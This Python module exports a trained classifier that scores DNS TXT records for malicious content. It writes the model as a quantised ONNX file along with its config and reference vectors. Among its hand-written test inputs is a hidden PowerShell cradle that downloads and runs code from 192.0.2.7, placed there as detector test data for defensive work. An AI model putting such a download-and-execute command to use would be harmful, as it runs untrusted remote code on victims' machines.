"""From a trained network to `models/<name>/`: an int8 ONNX file, its config, and reference vectors.

The graph is written node by node, as two-dimensional convolutions of height 1 (the fast path of ONNX Runtime), and
quantised statically with 7-bit weights (`reduce_range`), so that hosts without VNNI saturate nowhere. Slope and offset
of the calibration are folded into the last layer: the file itself is calibrated.
"""

import json
import random
import tempfile
from pathlib import Path

import numpy as np
import onnx
import onnxruntime
from onnx import TensorProto, helper, numpy_helper
from onnxruntime.quantization import CalibrationDataReader, CalibrationMethod, QuantFormat, QuantType, quantize_static

import corpus
from net import KERNELS, STRIDES, SUM_SCALE
from reference import BUCKETS, PAD, STRIDE, VOCABULARY, WINDOW, bucket, normalise, windows
from texts.disguises import disguised
from texts.ordinary import benign
from texts.payloads import suspicious

THRESHOLD = 0.5
OPSET = 17


def graph(net, slope, offset):
    """The float model, with probability slope * logit + offset through a sigmoid."""
    weights = {name: value.detach().numpy() for name, value in net.state_dict().items()}
    constants = {
        "embedding": weights["embedding.weight"],
        "conv1": weights["conv1.weight"][:, :, None, :],
        "conv2": weights["conv2.weight"][:, :, None, :],
        "hidden_w": weights["hidden.weight"].T,
        "hidden_b": weights["hidden.bias"],
        "out_w": weights["out.weight"].T * slope,
        "out_b": weights["out.bias"] * slope + offset,
        "height": np.array([2], np.int64),
        "space": np.array([2, 3], np.int64),
        "scale": np.array(SUM_SCALE, np.float32),
    }
    conv = lambda k, s: {"kernel_shape": [1, k], "strides": [1, s], "pads": [0, 0, 0, k - s]}
    nodes = [
        helper.make_node("Gather", ["embedding", "ids"], ["e"], "gather"),
        helper.make_node("Transpose", ["e"], ["t"], "transpose", perm=[0, 2, 1]),
        helper.make_node("Unsqueeze", ["t", "height"], ["u"], "unsqueeze"),
        helper.make_node("Conv", ["u", "conv1"], ["c1"], "conv_1", **conv(KERNELS[0], STRIDES[0])),
        helper.make_node("Relu", ["c1"], ["r1"], "relu_1"),
        helper.make_node("Conv", ["r1", "conv2"], ["c2"], "conv_2", **conv(KERNELS[1], STRIDES[1])),
        helper.make_node("Relu", ["c2"], ["r2"], "relu_2"),
        helper.make_node("ReduceMax", ["r2"], ["max"], "max", axes=[2, 3], keepdims=0),
        helper.make_node("ReduceSum", ["r2", "space"], ["sum"], "sum", keepdims=0),
        helper.make_node("Mul", ["sum", "scale"], ["scaled"], "mul"),
        helper.make_node("Concat", ["max", "scaled"], ["pooled"], "concat", axis=1),
        helper.make_node("Gemm", ["pooled", "hidden_w", "hidden_b"], ["h"], "hidden"),
        helper.make_node("Relu", ["h"], ["rh"], "relu_3"),
        helper.make_node("Gemm", ["rh", "out_w", "out_b"], ["logit"], "out"),
        helper.make_node("Sigmoid", ["logit"], ["probability"], "sigmoid"),
    ]
    return helper.make_model(
        helper.make_graph(
            nodes,
            "dnstxtscore",
            [helper.make_tensor_value_info("ids", TensorProto.INT32, ["rows", "length"])],
            [helper.make_tensor_value_info("probability", TensorProto.FLOAT, ["rows", 1])],
            [
                numpy_helper.from_array(np.ascontiguousarray(v, v.dtype if v.dtype == np.int64 else np.float32), k)
                for k, v in constants.items()
            ],
        ),
        opset_imports=[helper.make_opsetid("", OPSET)],
        ir_version=9,
        producer_name="dnstxtscore models/train",
    )


def padded(parts, length):
    ids = np.full((len(parts), length), PAD, np.int32)
    for row, one in enumerate(parts):
        ids[row, : len(one)] = one
    return ids


class _Calibration(CalibrationDataReader):
    def __init__(self, rows):
        pool = [ids for ids, _ in corpus.synthetic(5000, 77) + corpus.real(rows, 1500, 78)]
        self.batches = iter(
            [
                {"ids": padded(part[i : i + 64], b)}
                for b in BUCKETS
                for part in [[p for p in pool if bucket(len(p)) == b]]
                for i in range(0, len(part), 64)
            ]
        )

    def get_next(self):
        return next(self.batches, None)


def quantise(model, rows, path):
    with tempfile.TemporaryDirectory() as folder:
        source = Path(folder) / "float.onnx"
        onnx.save(model, source)
        quantize_static(
            source,
            path,
            _Calibration(rows),
            quant_format=QuantFormat.QOperator,
            per_channel=True,
            reduce_range=True,
            activation_type=QuantType.QUInt8,
            weight_type=QuantType.QInt8,
            calibrate_method=CalibrationMethod.MinMax,
            op_types_to_quantize=["Conv", "Relu", "Gather", "Transpose", "Unsqueeze"],
            nodes_to_exclude=["relu_3"],
            extra_options={"ActivationSymmetric": False},
        )
    channels_last(path)


def channels_last(path):
    """Pools over [rows, 1, length, channels], the layout in which ONNX Runtime's integer convolutions leave it.
    Nothing is transposed back, and maximum and sum go through whole vectors: a seventh of the time. Scores differ by
    rounding (2e-7)."""
    model = onnx.load(path)
    nodes = {node.name: node for node in model.graph.node}
    dequantised = nodes["r2_DequantizeLinear"]
    at = list(model.graph.node).index(dequantised)
    model.graph.node.insert(
        at,
        helper.make_node("Transpose", [dequantised.input[0]], ["r2_channels_last"], "channels_last", perm=[0, 2, 3, 1]),
    )
    dequantised.input[0] = "r2_channels_last"
    nodes["max"].attribute[0].CopyFrom(helper.make_attribute("axes", [1, 2]))
    next(one for one in model.graph.initializer if one.name == "space").CopyFrom(
        numpy_helper.from_array(np.array([1, 2], np.int64), "space")
    )
    del model.graph.value_info[:]  # shapes of the old layout
    onnx.checker.check_model(model, full_check=True)
    onnx.save(model, path)


def session(path_or_bytes):
    options = onnxruntime.SessionOptions()
    options.intra_op_num_threads = 1
    return onnxruntime.InferenceSession(path_or_bytes, options, providers=["CPUExecutionProvider"])


def score(run, values):
    """The probability of each normalised value, through the exported file."""
    flat = sorted(
        ((v, ids) for v, value in enumerate(values) for ids in windows(value)), key=lambda x: bucket(len(x[1]))
    )
    out = np.zeros(len(values))
    for b in BUCKETS:
        part = [x for x in flat if bucket(len(x[1])) == b]
        for i in range(0, len(part), 64):
            got = run.run(["probability"], {"ids": padded([ids for _, ids in part[i : i + 64]], b)})[0][:, 0]
            for (v, _), one in zip(part[i : i + 64], got):
                out[v] = max(out[v], one)
    return out


BY_HAND = (
    "v=spf1 -all",
    "TXT 11 v=spf1 -all",
    "TXT 5 v=spf TXT 6 1 -all",
    "TXT 12 v=spf1 -all",
    '"v=DKIM1; k=rsa; p=" "MIGfMA0"',
    '"a" payload',
    r"caf\195\169",
    r"TXT 5 caf\xc3\xa9",
    "  spaced  ",
    "a",
    r"\"quoted\" \\ \256",
    "x" * 30,
    "x" * 31,
    "x" * 510,
    "x" * 511,
    "y" * 3000,
    "TXT 0  TXT 3 abc",
    "TXT 0",
    '""',
    '"" ""',
    'TXT 2 ""',
    "TXT 1  ",
    "v=spf1 -all \t\t \t \t\t",
    "     v=spf1 -all",
    " \t \t\t  \t",
    '"v=spf1 -all"  ""',
    "TXT 0  SPF 11 v=spf1 -all",
    "TXT 011 v=spf1 -all",
    r"v=s\112f1 -all",
    "v=spf1 -all \r\n",
    "naïve домен 域名",
    "whoami",
    "powershell -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://192.0.2.7/a')",
)


def reference_rows(run):
    """Texts of our own with what this implementation makes of them: for `tests/reference.rs`."""
    r = random.Random(2026)
    cells = [text.encode() for text in BY_HAND]
    cells += (
        [benign(r)[:1500] for _ in range(120)]
        + [suspicious(r)[0][:1500] for _ in range(70)]
        + [disguised(r)[0][:1500] for _ in range(60)]
    )
    values = [normalise(cell) for cell in cells]
    for cell, value, probability in zip(cells, values, score(run, values)):
        try:
            shown = {"text": cell.decode()}
        except UnicodeDecodeError:
            shown = {"hex": cell.hex()}
        yield {**shown, "windows": windows(value), "score": round(float(probability), 7)}


def write(folder, net, slope, offset, rows):
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "model.onnx"
    quantise(graph(net, slope, offset), rows, path)
    config = {
        "name": folder.name,
        "window": WINDOW,
        "stride": STRIDE,
        "padding": PAD,
        "vocabulary": VOCABULARY,
        "buckets": list(BUCKETS),
        "threshold": THRESHOLD,
        "input": "ids",
        "output": "probability",
    }
    (folder / "config.json").write_text(json.dumps(config, indent=2) + "\n")
    with open(folder / "reference.jsonl", "w") as out:
        for row in reference_rows(session(str(path))):
            out.write(json.dumps(row, separators=(",", ":")) + "\n")
    print(f"{path}: {path.stat().st_size:,} bytes")
